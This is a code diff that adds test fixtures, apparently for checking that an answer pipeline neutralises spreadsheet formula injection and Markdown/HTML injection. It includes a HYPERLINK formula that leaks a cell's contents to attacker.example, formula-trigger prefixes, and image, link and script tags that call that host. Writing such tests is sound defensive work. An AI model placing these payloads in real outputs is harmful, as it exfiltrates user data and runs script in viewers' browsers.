@@ -52,3 +52,28 @@ def eighth_right(request: SystemRequest) -> dict[str, Any]:
     if number % 8 == 1:
         return _answer(request, broken=False)
     return {"answer": "Employees receive 20 days.", "abstained": False}
+
+
+HOSTILE_ANSWER = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")'
+
+
+def spreadsheet_attack(request: SystemRequest) -> dict[str, Any]:
+    """Answers with cells a spreadsheet would run as formulas (issue 9, finding 11)."""
+    number = int(request.case_id.rsplit("-", 1)[-1])
+    answers = [HOSTILE_ANSWER, "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "plain"]
+    return {"answer": answers[number % len(answers)], "abstained": False}
+
+
+HOSTILE_MARKUP = (
+    "![x](http://attacker.example/img.png) [click](http://attacker.example/link) "
+    '<img src="http://attacker.example/tag.png"> <script>fetch("http://attacker.example/s")'
+    "</script> $\\sum_{i}^{n} x$ www.attacker.example"
+)
+
+
+def hostile(request: SystemRequest) -> dict[str, Any]:
+    """Errors and answers written to render as Markdown or HTML (issue 9, finding 7)."""
+    number = int(request.case_id.rsplit("-", 1)[-1])
+    if number % 2:
+        raise RuntimeError(f"upstream said: {HOSTILE_MARKUP}")
+    return {"answer": f"Answer: {HOSTILE_MARKUP}", "abstained": False}
